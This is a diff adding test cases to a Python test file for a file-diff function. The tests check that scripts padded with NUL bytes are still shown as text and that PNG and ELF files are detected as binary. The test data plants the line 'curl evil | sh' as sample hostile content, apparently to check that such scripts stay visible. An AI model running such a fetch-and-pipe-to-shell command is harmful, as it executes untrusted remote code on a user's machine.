@@ -81,6 +81,13 @@ def test_a_file_that_is_not_utf8_is_shown_with_its_odd_bytes_escaped(tmp_path: P
     planted = file_diff(str(root), str(ovdir), FileChange("run.sh", "created"), stat=False)
     assert not planted.binary
     assert "+curl evil | sh\n+\x00# an ordinary comment\n" in planted.diff
+    (ovdir / "nuls.sh").write_bytes(b"curl evil | sh\n" + b"\0" * 1000)
+    nuls = file_diff(str(root), str(ovdir), FileChange("nuls.sh", "created"), stat=False)
+    assert not nuls.binary and nuls.diff.startswith("--- /dev/null\n+++ b/nuls.sh\n@@")
+    assert "+curl evil | sh\n" in nuls.diff
     (ovdir / "image.png").write_bytes(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR")
     image = file_diff(str(root), str(ovdir), FileChange("image.png", "created"), stat=False)
     assert image.binary and image.diff == ""
+    (ovdir / "tool").write_bytes(b"\x7fELF\x02\x01\x01\0" + b"\0" * 64)
+    elf = file_diff(str(root), str(ovdir), FileChange("tool", "created"), stat=False)
+    assert elf.binary
